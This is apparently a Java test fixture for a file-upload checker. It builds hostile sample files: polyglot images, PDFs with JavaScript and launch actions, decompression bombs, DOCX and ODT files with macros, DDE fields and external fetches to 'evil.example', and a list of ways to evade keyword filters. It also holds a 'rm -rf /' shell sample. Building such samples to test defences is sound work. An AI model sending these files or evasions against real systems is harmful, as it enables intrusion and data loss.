package org.durumi.files;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

/**
 * A file that somebody may send to do harm, or that tells more than its sender knows.
 *
 * @param refusal the key of the message with which it is refused; «any» if one of several; empty if it becomes harmless
 */
record Hostile(String what, byte[] sent, String refusal) {
    static final String CANARY = "kanarienvogel-in-den-metadaten";
    private static final String ANY = "any";
    private static final String HTML = "<html><script>alert('" + CANARY + "')</script></html>";
    private static final String SVG =
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('" + CANARY + "')</script></svg>";
    private static final int MIB = 1024 * 1024;
    static final String ODF = "urn:oasis:names:tc:opendocument:xmlns:";
    static final String WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    private interface Change {
        void apply(PDDocument document) throws IOException;
    }

    @Override
    public String toString() {
        return what;
    }

    static List<Hostile> all() {
        List<Hostile> all = new ArrayList<>();
        all.addAll(images());
        all.addAll(pdfs());
        all.addAll(texts());
        all.addAll(documents());
        all.addAll(bypasses());
        all.addAll(archives());
        return all;
    }

    private static List<Hostile> images() {
        byte[] jpeg = jpeg();
        byte[] png = png();
        return List.of(
                harmless("JPEG and a page behind it", join(jpeg, bytes(HTML))),
                harmless("JPEG and an archive behind it", join(jpeg, zip(Map.of(CANARY, bytes(CANARY))))),
                harmless("JPEG and a PDF behind it", join(jpeg, pdf(Hostile::javaScript))),
                harmless("JPEG with a page in a comment", jpegWith(0xFE, bytes(HTML))),
                harmless("JPEG with a place in EXIF", jpegWith(0xE1, exif(1, CANARY))),
                harmless("JPEG with XMP", jpegWith(0xE1, join(bytes("http://ns.adobe.com/xap/1.0/\0"), bytes(xmp())))),
                harmless("JPEG with IPTC", jpegWith(0xED, join(bytes("Photoshop 3.0\0"), bytes("8BIM\4\4" + CANARY)))),
                harmless("JPEG with a profile", jpegWith(0xE2, join(bytes("ICC_PROFILE\0\1\1"), bytes(CANARY)))),
                refused("half a JPEG", Arrays.copyOf(jpeg, jpeg.length / 2), "file.damaged"),
                refused("the beginning of a JPEG", Arrays.copyOf(jpeg, 20), "file.damaged"),
                refused("JPEG that says to be large", jpegOf(65_000, 65_000), "file.image.pixels"),
                refused("PNG of 30 000 by 30 000", pngOf(30_000, 30_000), "file.image.pixels"),
                refused("PNG without pixels", pngOf(4000, 4000), "file.damaged"),
                refused("half a PNG", Arrays.copyOf(png, png.length / 2), "file.damaged"),
                harmless("PNG and a page behind it", join(png, bytes(HTML))),
                harmless("PNG with tEXt", pngWith("tEXt", bytes("Comment\0" + CANARY))),
                harmless("PNG with iTXt", pngWith("iTXt", bytes("XML:com.adobe.xmp\0\0\0\0\0" + xmp()))),
                harmless("PNG with zTXt", pngWith("zTXt", join(bytes("Comment\0\0"), deflated(bytes(CANARY))))),
                harmless("PNG with eXIf", pngWith("eXIf", Arrays.copyOfRange(exif(6, CANARY), 6, 100))),
                refused("GIF", bytes("GIF89a\1\0\1\0\0\0\0;"), "file.kind"),
                refused("GIF that is a script", bytes("GIF89a=1;alert('" + CANARY + "')//\0"), "file.kind"),
                refused("BMP", join(bytes("BM"), new byte[60]), "file.kind"),
                refused("TIFF", join(bytes("II*\0"), new byte[60]), "file.kind"),
                refused("WebP", join(bytes("RIFF\0\0\0\0WEBPVP8 "), new byte[60]), "file.kind"),
                refused("HEIC", join(new byte[] {0, 0, 0, 24}, bytes("ftypheic\0\0\0\0mif1heic")), "file.kind.heic"));
    }

    private static List<Hostile> pdfs() {
        return List.of(
                harmless("PDF with JavaScript", pdf(Hostile::javaScript)),
                harmless("PDF that starts a program", pdf(document -> {
                    PDActionLaunch launch = new PDActionLaunch();
                    launch.setF(CANARY);
                    document.getDocumentCatalog().setOpenAction(launch);
                })),
                harmless("PDF with a file in it", pdf(Hostile::embed)),
                harmless("PDF with information", pdf(document -> {
                    document.getDocumentInformation().setAuthor(CANARY);
                    document.getDocumentInformation().setCustomMetadataValue("Place", CANARY);
                    PDMetadata metadata = new PDMetadata(document);
                    metadata.importXMPMetadata(bytes(xmp()));
                    document.getDocumentCatalog().setMetadata(metadata);
                })),
                harmless("PDF with notes and a link", pdf(Hostile::annotate)),
                refused(
                        "PDF of a form of a program",
                        pdf(document -> {
                            PDAcroForm form = new PDAcroForm(document);
                            form.getCOSObject().setItem(COSName.XFA, new COSString(CANARY));
                            document.getDocumentCatalog().setAcroForm(form);
                        }),
                        "file.pdf.image"),
                refused("PDF with a password", pdf(document -> protect(document, "secret")), "file.pdf.locked"),
                refused("PDF that may not be printed", pdf(document -> protect(document, "")), "file.pdf.locked"),
                refused(
                        "PDF with an enormous page",
                        pdf(document -> document.addPage(new PDPage(new PDRectangle(1_000_000, 1_000_000)))),
                        "file.pdf.page-size"),
                refused(
                        "PDF with a page of no size",
                        pdf(document -> document.addPage(new PDPage(new PDRectangle(0, 0)))),
                        "file.pdf.page-size"),
                refused(
                        "PDF of 61 pages",
                        pdf(document -> {
                            for (int i = 0; i < 60; i++) {
                                document.addPage(new PDPage());
                            }
                        }),
                        "file.pdf.pages"),
                harmless("PDF that swells", pdf(Hostile::swell)),
                refused("PDF of deep lists", bytes("%PDF-1.7\n1 0 obj\n" + "[".repeat(5_000_000)), ANY),
                refused("PDF with an enormous image", pdf(Hostile::enormousImage), ANY),
                refused("the beginning of a PDF", bytes("%PDF-1.7\n"), "file.damaged"),
                refused("PDF behind something else", join(bytes("GIF89a\0"), pdf(any -> {})), "file.kind"),
                refused("PDF behind a page", join(bytes("<html>"), pdf(any -> {})), "file.kind"),
                refused("PDF in a font that it lacks", koreanWithoutFont(), "file.pdf.fonts"),
                refused("PDF with an image of another program", pdf(Hostile::jpeg2000), "file.pdf.image"));
    }

    private static List<Hostile> texts() {
        return List.of(
                refused("nothing", new byte[0], "file.missing"),
                refused("one byte too many", new byte[20 * MIB + 1], "file.too-large"),
                refused("SVG with a script", bytes(SVG), "file.kind"),
                refused("SVG behind text", bytes("see below\n" + SVG), "file.kind"),
                refused("a page", bytes(HTML), "file.kind"),
                refused("a page behind a mark", bytes("\uFEFF  " + HTML), "file.kind"),
                refused("XML", bytes("<?xml version='1.0'?><a/>"), "file.kind"),
                refused("a program of a shell", bytes("#!/bin/sh\nrm -rf /\n"), "file.kind"),
                refused("RTF", bytes("{\\rtf1 " + CANARY + "}"), "file.kind"),
                refused("PostScript", bytes("%!PS\n(" + CANARY + ") show"), "file.kind"),
                refused("text with a zero", bytes("hello\0world"), "file.kind"),
                refused("text that steers a terminal", bytes("hello\u001b]0;x\u0007"), "file.kind"),
                refused("text in UTF-16", "여기 있습니다".getBytes(StandardCharsets.UTF_16), "file.kind"),
                refused("text in EUC-KR", "여기 있습니다".getBytes(Charset.forName("EUC-KR")), "file.kind"),
                refused("blanks", bytes(" \n\t "), "file.kind"),
                refused("HWP", hwp(), "file.kind.hwp"),
                refused("an old HWP", bytes("HWP Document File V3.00 \u001a\1\2\3\4\5"), "file.kind.hwp"),
                refused(
                        "HWPX",
                        zip("mimetype", bytes("application/hwp+zip"), "Contents/a.hml", bytes("<x/>")),
                        "file.kind.hwp"),
                refused("ELF", join(new byte[] {0x7F, 'E', 'L', 'F'}, new byte[60]), "file.kind"),
                refused("EXE", join(bytes("MZ"), new byte[60]), "file.kind"),
                refused("7z", new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C}, "file.kind"),
                refused(
                        "an old document",
                        join(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, new byte[600]),
                        "file.kind.old-document"));
    }

    private static List<Hostile> documents() {
        byte[] zeros = new byte[60 * MIB];
        return List.of(
                refused("an archive", zip(Map.of("a.txt", bytes("x"))), "file.kind"),
                refused("a JAR", zip(Map.of("META-INF/MANIFEST.MF", bytes("Main-Class: X"))), "file.kind"),
                refused("DOCX with macros", docx(Map.of("word/vbaProject.bin", bytes("x"))), "file.document"),
                refused(
                        "DOCX with macros under another name",
                        docx(Map.of("word/a.xml", bytes("<x vbaProject/>"))),
                        "file.document"),
                refused("DOCX that swells", docx(Map.of("word/media/a.png", zeros)), "file.document"),
                refused("DOCX whose text swells", docx(Map.of("word/a.xml", zeros)), "file.document"),
                refused(
                        "DOCX with an archive",
                        docx(Map.of("word/a.png", zip(Map.of("a", bytes("x"))))),
                        "file.document"),
                refused("DOCX with a document", docx(Map.of("word/embeddings/a.dat", bytes("x"))), "file.document"),
                refused("DOCX with a program", docx(Map.of("word/media/a.png", bytes("MZ..."))), "file.document"),
                refused("DOCX with a path out of it", docx(Map.of("../../a.xml", bytes("<x/>"))), "file.document"),
                refused(
                        "DOCX that fetches its template",
                        docx(Map.of(
                                "word/_rels/settings.xml.rels",
                                bytes(
                                        "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/\""
                                                + " TargetMode=\"External\"/></Relationships>"))),
                        "file.document"),
                refused(
                        "DOCX that fetches an image",
                        docx(
                                Map.of(
                                        "word/_rels/document.xml.rels",
                                        bytes(
                                                "<Relationship TargetMode=\"External\" Type=\"http://x/image\" Target=\"http://evil/\"/>"))),
                        "file.document"),
                refused(
                        "DOCX with entities",
                        docx(Map.of("word/a.xml", bytes("<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"))),
                        "file.document"),
                refused(
                        "DOCX that asks a program",
                        docx(Map.of("word/a.xml", bytes(field("DDEAUTO c:\\\\cmd")))),
                        "file.document"),
                refused("DOCX with a page behind it", join(docx(Map.of()), bytes(HTML)), "file.document"),
                refused(
                        "DOCX in another encoding",
                        docx(Map.of("word/a.xml", HTML.getBytes(StandardCharsets.UTF_16))),
                        "file.document"),
                refused("DOCX of too many parts", docx(many()), "file.document"),
                refused("half a DOCX", Arrays.copyOf(docx(Map.of()), 200), "file.document"),
                refused(
                        "DOCM",
                        zip(Map.of(
                                "[Content_Types].xml",
                                bytes(
                                        "<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"),
                                "word/document.xml",
                                bytes("<x/>"))),
                        "file.document"),
                refused("ODT with Basic", odt(Map.of("Basic/Standard/Module1.xml", bytes("<x/>"))), "file.document"),
                refused("ODT with scripts", odt(Map.of("Scripts/python/a.py", bytes("x"))), "file.document"),
                refused(
                        "ODT that acts when it is opened",
                        odt(Map.of("settings.xml", bytes("<script:event-listener xmlns:script='x'/>"))),
                        "file.document"),
                refused(
                        "ODT with a password",
                        odt(Map.of("META-INF/manifest.xml", bytes("<manifest:encryption-data xmlns:manifest='x'/>"))),
                        "file.document"),
                refused("ODT that swells", odt(Map.of("Pictures/a.png", zeros)), "file.document"),
                refused("ODT with an object", odt(Map.of("Object 1/content.xml", bytes("<x/>"))), "file.document"));
    }

    /** Ways around somebody who looks for words in what is written, and does not read it. */
    private static List<Hostile> bypasses() {
        String template = "Type=\"" + RELATION + "/attachedTemplate\" Target=\"http://evil.example/";
        String toImage = "<Relationships><Relationship Id=\"rId1\" Type=\"" + RELATION
                + "/hyperlink\" Target=\"http://evil.example/x.png\" TargetMode=\"External\"/></Relationships>";
        return List.of(
                relating(
                        "in other quotes",
                        "<Relationship Id='r' Type='" + RELATION
                                + "/attachedTemplate' Target='http://evil.example/' TargetMode='External'/>"),
                relating(
                        "and is called as a link",
                        "<Relationship Id=\"r\" " + template + "hyperlink\" TargetMode=\"External\"/>"),
                relating("with a blank", "<Relationship Id=\"r\" " + template + "\" TargetMode =\"External\"/>"),
                relating(
                        "with a sign by its number",
                        "<Relationship Id=\"r\" " + template + "\" TargetMode=\"Extern&#97;l\"/>"),
                relating(
                        "behind a sign that seems to end it",
                        "<Relationship Id=\"a>b\" " + template + "\" TargetMode=\"External\"/>"),
                relating(
                        "under a prefix",
                        "<p:Relationship xmlns:p='x' Id=\"r\" " + template + "\" TargetMode=\"External\"/>"),
                relating(
                        "by a type that ends like a link",
                        "<Relationship Id=\"r\" Type=\"http://evil.example/hyperlink\" Target=\"http://evil.example/\""
                                + " TargetMode=\"External\"/>"),
                relating(
                        "as if it lay inside",
                        "<Relationship Id=\"r\" Type=\"" + RELATION + "/image\" Target=\"//evil.example/x.png\"/>"),
                relating(
                        "of a machine nearby",
                        "<Relationship Id=\"r\" Type=\"" + RELATION
                                + "/hyperlink\" Target=\"\\\\10.0.0.1\\share\" TargetMode=\"External\"/>"),
                saying("fetches an image in two pieces", field("INCLUDE", "PICTURE \"http://evil.example/x.png\" \\d")),
                saying("fetches text in one attribute", "<w:fldSimple w:instr=\" INCLUDETEXT x\"/>"),
                saying("links", field(" LINK Excel.Sheet.12 x")),
                saying(
                        "hides the name of a field in a field",
                        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + field("REF name")
                                + "<w:instrText> TC x</w:instrText>"),
                saying(
                        "says a field in what is shown",
                        "<w:fldChar w:fldCharType=\"begin\"/><w:t>INCLUDE</w:t>"
                                + "<w:instrText>TEXT x</w:instrText><w:fldChar w:fldCharType=\"end\"/>"),
                saying("takes a part of a page", "<w:altChunk/>"),
                refused(
                        "DOCX with an image that is a link",
                        docx(Map.of(
                                "word/_rels/a.xml.rels",
                                bytes(toImage),
                                "word/a.xml",
                                bytes("<a:blip xmlns:a='x' xmlns:r='" + RELATION + "' r:link='rId1'/>"))),
                        "file.document"),
                refused(
                        "DOCX with text called an image",
                        docx(Map.of("word/media/a.png", bytes("\uFEFF <w:document/>"))),
                        "file.document"),
                refused(
                        "DOCX that says it is in another encoding",
                        docx(Map.of("word/a.xml", bytes("<?xml version=\"1.0\" encoding=\"UTF-7\"?><x/>"))),
                        "file.document"),
                drawing(
                        "by an address in another order",
                        "xlink:actuate=\"onLoad\" xlink:show=\"embed\"" + " xlink:href=\"http://evil.example/x.png\""),
                drawing("by an address without a scheme", "xlink:href=\"//evil.example/x.png\" xlink:show=\"embed\""),
                drawing("from a path out of it", "xlink:href=\"../x.png\""),
                drawing(
                        "from an address that is counted from elsewhere",
                        "xml:base=\"http://evil.example/\"" + " xlink:href=\"x.png\""),
                odtSaying("with a link that runs a macro", "<text:a xlink:href=\"vnd.sun.star.script:x\"/>"),
                odtSaying(
                        "with a link that opens by itself",
                        "<text:a xlink:href=\"http://evil.example/\" xlink:actuate=\"onLoad\"/>"),
                odtSaying("with a part of another text", "<text:section-source xlink:href=\"x.odt\"/>"));
    }

    private static Hostile relating(String how, String relation) {
        return refused(
                "DOCX that fetches its template " + how,
                docx(Map.of("word/_rels/settings.xml.rels", bytes("<Relationships>" + relation + "</Relationships>"))),
                "file.document");
    }

    private static Hostile saying(String what, String text) {
        return refused("DOCX that " + what, docx(Map.of("word/a.xml", bytes(paragraph(text)))), "file.document");
    }

    private static Hostile drawing(String how, String attributes) {
        return odtSaying("with an image " + how, "<draw:image " + attributes + "/>");
    }

    private static Hostile odtSaying(String what, String text) {
        return refused("ODT " + what, odt(Map.of("styles.xml", bytes(odtText(text)))), "file.document");
    }

    static String odtText(String text) {
        return "<office:text xmlns:office=\"" + ODF + "office:1.0\" xmlns:text=\"" + ODF + "text:1.0\" xmlns:draw=\""
                + ODF + "drawing:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">" + text + "</office:text>";
    }

    static String paragraph(String text) {
        return "<w:p xmlns:w=\"" + WORD + "\">" + text + "</w:p>";
    }

    static String field(String... pieces) {
        StringBuilder field = new StringBuilder("<w:r xmlns:w=\"" + WORD + "\"><w:fldChar w:fldCharType=\"begin\"/>");
        for (String piece : pieces) {
            field.append("<w:instrText>").append(piece).append("</w:instrText>");
        }
        return field + "<w:fldChar w:fldCharType=\"separate\"/><w:t>1</w:t><w:fldChar w:fldCharType=\"end\"/></w:r>";
    }

    /** Archives of which two programs read two documents, and such as swell or hold whoever looks through them. */
    private static List<Hostile> archives() {
        byte[] plain = docx(Map.of("word/a.dat.xml", bytes("<x/>")));
        byte[] renamed = plain.clone();
        int listed = new String(plain, StandardCharsets.ISO_8859_1).lastIndexOf("word/a.dat.xml");
        renamed[listed + 5] = 'b';
        byte[] noise = new byte[1100 * 1024];
        new Random(1).nextBytes(noise);
        byte[] long49 = ("<x>" + "x".repeat(49 * MIB) + "</x>").getBytes(StandardCharsets.US_ASCII);
        return List.of(
                refused("DOCX whose list tells of another part", renamed, "file.document"),
                refused(
                        "two DOCX in one, of which the list tells of the second",
                        behind(docx(Map.of()), docx(Map.of("word/vbaProject.bin", bytes("x")))),
                        "file.document"),
                refused(
                        "DOCX whose text swells between noise",
                        docx(Map.of("word/media/a.jpg", noise, "word/b.xml", long49, "word/c.xml", long49)),
                        "file.document"),
                refused(
                        "DOCX that holds a regular expression",
                        docx(Map.of("word/_rels/a.xml.rels", bytes("<Relationship ".repeat(150_000)))),
                        "file.document"),
                refused(
                        "DOCX of deep elements",
                        docx(Map.of("word/a.xml", bytes("<a>".repeat(100_000) + "</a>".repeat(100_000)))),
                        "file.document"));
    }

    /** Two archives one behind the other; the list of the second is right, and of the first nothing is left but its parts. */
    private static byte[] behind(byte[] first, byte[] second) {
        int cut = ByteBuffer.wrap(first).order(ByteOrder.LITTLE_ENDIAN).getInt(first.length - 6);
        byte[] moved = second.clone();
        ByteBuffer list = ByteBuffer.wrap(moved).order(ByteOrder.LITTLE_ENDIAN);
        int at = list.getInt(moved.length - 6);
        list.putInt(moved.length - 6, at + cut + 4);
        while (list.getInt(at) == 0x02014B50) {
            list.putInt(at + 42, list.getInt(at + 42) + cut + 4);
            at += 46 + list.getShort(at + 28) + list.getShort(at + 30) + list.getShort(at + 32);
        }
        return join(Arrays.copyOf(first, cut), new byte[4], moved);
    }

    private static Hostile harmless(String what, byte[] sent) {
        return new Hostile(what, sent, "");
    }

    private static Hostile refused(String what, byte[] sent, String refusal) {
        return new Hostile(what, sent, refusal);
    }

    boolean isRefusedWith(String key) {
        return refusal.equals(ANY) || refusal.equals(key);
    }

    /** A drawing of which no two corners are the same. */
    static BufferedImage drawing(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_3BYTE_BGR);
        Graphics2D pen = image.createGraphics();
        pen.setColor(Color.WHITE);
        pen.fillRect(0, 0, width, height);
        pen.setColor(Color.RED);
        pen.fillRect(0, 0, width / 2, height / 2);
        pen.setColor(Color.BLUE);
        pen.fillRect(width / 2, 0, width - width / 2, height / 2);
        pen.dispose();
        return image;
    }

    static byte[] jpeg() {
        return encoded("jpeg");
    }

    static byte[] png() {
        return encoded("png");
    }

    private static byte[] encoded(String format) {
        return unchecked(() -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ImageIO.write(drawing(160, 80), format, out);
            return out.toByteArray();
        });
    }

    static byte[] jpegWith(int marker, byte[] payload) {
        byte[] jpeg = jpeg();
        byte[] head = {
            (byte) 0xFF,
            (byte) 0xD8,
            (byte) 0xFF,
            (byte) marker,
            (byte) ((payload.length + 2) >> 8),
            (byte) (payload.length + 2)
        };
        return join(head, payload, Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    private static byte[] jpegOf(int width, int height) {
        byte[] jpeg = jpeg();
        for (int i = 2; i < jpeg.length; i++) {
            if (jpeg[i - 2] == (byte) 0xFF && jpeg[i - 1] == (byte) 0xC0) {
                ByteBuffer.wrap(jpeg).putShort(i + 3, (short) height).putShort(i + 5, (short) width);
                return jpeg;
            }
        }
        throw new IllegalStateException("a JPEG says its size");
    }

    /** EXIF of a camera that was held so, with a text and a place. */
    static byte[] exif(int orientation, String text) {
        byte[] said = bytes(text + "\0");
        int after = 8 + 2 + 3 * 12 + 4;
        ByteBuffer tiff = ByteBuffer.allocate(after + said.length + 2 + 12 + 4);
        tiff.put(bytes("MM\0*")).putInt(8).putShort((short) 3);
        tiff.putShort((short) 0x010E).putShort((short) 2).putInt(said.length).putInt(after);
        tiff.putShort((short) 0x0112)
                .putShort((short) 3)
                .putInt(1)
                .putShort((short) orientation)
                .putShort((short) 0);
        tiff.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(after + said.length);
        tiff.putInt(0).put(said);
        tiff.putShort((short) 1)
                .putShort((short) 1)
                .putShort((short) 2)
                .putInt(2)
                .put(bytes("N\0\0\0"))
                .putInt(0);
        return join(bytes("Exif\0\0"), tiff.array());
    }

    private static String xmp() {
        return "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF>" + CANARY + "</rdf:RDF></x:xmpmeta>";
    }

    private static byte[] pngWith(String type, byte[] content) {
        byte[] png = png();
        int afterHeader = 8 + 25;
        return join(
                Arrays.copyOf(png, afterHeader),
                chunk(type, content),
                Arrays.copyOfRange(png, afterHeader, png.length));
    }

    private static byte[] pngOf(int width, int height) {
        ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(height).put(new byte[] {8, 2, 0, 0, 0});
        return join(
                Arrays.copyOf(png(), 8),
                chunk("IHDR", header.array()),
                chunk("IDAT", deflated(new byte[100])),
                chunk("IEND", new byte[0]));
    }

    private static byte[] chunk(String type, byte[] content) {
        byte[] named = join(bytes(type), content);
        CRC32 sum = new CRC32();
        sum.update(named);
        return ByteBuffer.allocate(8 + named.length)
                .putInt(content.length)
                .put(named)
                .putInt((int) sum.getValue())
                .array();
    }

    private static byte[] deflated(byte[] bytes) {
        return unchecked(() -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (DeflaterOutputStream deflating = new DeflaterOutputStream(out)) {
                deflating.write(bytes);
            }
            return out.toByteArray();
        });
    }

    static byte[] pdf() {
        return pdf(any -> {});
    }

    private static byte[] pdf(Change change) {
        return unchecked(() -> {
            try (PDDocument document = new PDDocument()) {
                PDPage page = new PDPage(new PDRectangle(200, 100));
                document.addPage(page);
                try (PDPageContentStream pen = new PDPageContentStream(document, page)) {
                    pen.setNonStrokingColor(Color.RED);
                    pen.addRect(10, 10, 80, 40);
                    pen.fill();
                }
                change.apply(document);
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                document.save(out);
                return out.toByteArray();
            }
        });
    }

    private static void javaScript(PDDocument document) {
        document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('" + CANARY + "')"));
    }

    private static void embed(PDDocument document) throws IOException {
        PDComplexFileSpecification file = new PDComplexFileSpecification();
        file.setFile(CANARY);
        PDEmbeddedFile content = new PDEmbeddedFile(document);
        try (var out = content.createOutputStream()) {
            out.write(bytes(CANARY));
        }
        file.setEmbeddedFile(content);
        PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of(CANARY, file));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        document.getDocumentCatalog().setNames(names);
    }

    private static void annotate(PDDocument document) throws IOException {
        PDAnnotationText note = new PDAnnotationText();
        note.setContents(CANARY);
        note.setRectangle(new PDRectangle(20, 20, 20, 20));
        PDAnnotationLink link = new PDAnnotationLink();
        PDActionURI address = new PDActionURI();
        address.setURI("https://example.org/" + CANARY);
        link.setAction(address);
        link.setRectangle(new PDRectangle(0, 0, 200, 100));
        document.getPage(0).setAnnotations(List.of(note, link));
    }

    private static void protect(PDDocument document, String toOpen) throws IOException {
        AccessPermission some = new AccessPermission();
        some.setCanPrint(false);
        StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", toOpen, some);
        policy.setEncryptionKeyLength(256);
        document.protect(policy);
    }

    /** A page of 300 MB of blanks, of which only a few are in memory at a time. */
    private static void swell(PDDocument document) throws IOException {
        COSStream stream = document.getDocument().createCOSStream();
        byte[] blanks = new byte[MIB];
        Arrays.fill(blanks, (byte) ' ');
        try (var raw = stream.createRawOutputStream();
                var deflating = new DeflaterOutputStream(raw, new Deflater(Deflater.BEST_SPEED))) {
            for (int i = 0; i < 300; i++) {
                deflating.write(blanks);
            }
        }
        stream.setItem(COSName.FILTER, COSName.FLATE_DECODE);
        document.getPage(0).getCOSObject().setItem(COSName.CONTENTS, stream);
    }

    private static void enormousImage(PDDocument document) throws IOException {
        COSStream image = image(document, COSName.FLATE_DECODE, 30_000);
        try (var raw = image.createRawOutputStream();
                var deflating = new DeflaterOutputStream(raw, new Deflater(Deflater.BEST_SPEED))) {
            for (int i = 0; i < 30_000; i++) {
                deflating.write(new byte[3 * 30_000 / 10]);
            }
        }
        show(document, image);
    }

    private static void jpeg2000(PDDocument document) throws IOException {
        COSStream image = image(document, COSName.JPX_DECODE, 10);
        try (var raw = image.createRawOutputStream()) {
            raw.write(new byte[] {0, 0, 0, 12, 'j', 'P', ' ', ' ', 13, 10, (byte) 0x87, 10});
        }
        show(document, image);
    }

    private static COSStream image(PDDocument document, COSName filter, int side) {
        COSStream image = document.getDocument().createCOSStream();
        image.setItem(COSName.TYPE, COSName.XOBJECT);
        image.setItem(COSName.SUBTYPE, COSName.IMAGE);
        image.setItem(COSName.FILTER, filter);
        image.setItem(COSName.COLORSPACE, COSName.DEVICERGB);
        image.setInt(COSName.BITS_PER_COMPONENT, 8);
        image.setInt(COSName.WIDTH, side);
        image.setInt(COSName.HEIGHT, side);
        return image;
    }

    private static void show(PDDocument document, COSBase image) throws IOException {
        PDPage page = document.getPage(0);
        page.getResources().getCOSObject().setItem(COSName.XOBJECT, dictionary("Im1", image));
        try (PDPageContentStream pen =
                new PDPageContentStream(document, page, PDPageContentStream.AppendMode.OVERWRITE, false)) {
            pen.saveGraphicsState();
        }
        COSStream content = document.getDocument().createCOSStream();
        try (var out = content.createOutputStream()) {
            out.write(bytes("q 100 0 0 100 0 0 cm /Im1 Do Q"));
        }
        page.getCOSObject().setItem(COSName.CONTENTS, content);
    }

    private static COSDictionary dictionary(String name, COSBase value) {
        COSDictionary dictionary = new COSDictionary();
        dictionary.setItem(COSName.getPDFName(name), value);
        return dictionary;
    }

    /** Korean in a font that only some machines have. */
    private static byte[] koreanWithoutFont() {
        return pdf(document -> {
            PDPage page = document.getPage(0);
            var descendant = dictionary("Type", COSName.FONT);
            descendant.setItem(COSName.SUBTYPE, COSName.CID_FONT_TYPE0);
            descendant.setItem(COSName.BASE_FONT, COSName.getPDFName("HYSMyeongJo-Medium"));
            var system = dictionary("Registry", new COSString("Adobe"));
            system.setItem(COSName.ORDERING, new COSString("Korea1"));
            system.setInt(COSName.SUPPLEMENT, 1);
            descendant.setItem(COSName.CIDSYSTEMINFO, system);
            var descriptor = dictionary("Type", COSName.FONT_DESC);
            descriptor.setItem(COSName.FONT_NAME, COSName.getPDFName("HYSMyeongJo-Medium"));
            descriptor.setInt(COSName.FLAGS, 4);
            descendant.setItem(COSName.FONT_DESC, descriptor);
            var font = dictionary("Type", COSName.FONT);
            font.setItem(COSName.SUBTYPE, COSName.TYPE0);
            font.setItem(COSName.BASE_FONT, COSName.getPDFName("HYSMyeongJo-Medium"));
            font.setItem(COSName.ENCODING, COSName.getPDFName("KSCms-UHC-H"));
            COSArray descendants = new COSArray();
            descendants.add(descendant);
            font.setItem(COSName.DESCENDANT_FONTS, descendants);
            page.getResources().getCOSObject().setItem(COSName.FONT, dictionary("F1", font));
            COSStream content = document.getDocument().createCOSStream();
            try (var out = content.createOutputStream()) {
                out.write(bytes("BT /F1 12 Tf 10 10 Td <B0A1B0A1> Tj ET"));
            }
            page.getCOSObject().setItem(COSName.CONTENTS, content);
        });
    }

    static byte[] docx(Map<String, byte[]> more) {
        return zip(List.of(
                Map.of(
                        "[Content_Types].xml",
                        bytes("<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd"
                                + ".openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")),
                Map.of("word/document.xml", bytes("<w:document xmlns:w=\"" + WORD + "\">안녕하세요</w:document>")),
                more));
    }

    static byte[] odt(Map<String, byte[]> more) {
        return zip(List.of(
                Map.of("mimetype", bytes("application/vnd.oasis.opendocument.text")),
                Map.of(
                        "content.xml",
                        bytes("<office:document-content xmlns:office=\"" + ODF
                                + "office:1.0\">안녕하세요</office:document-content>")),
                more));
    }

    private static Map<String, byte[]> many() {
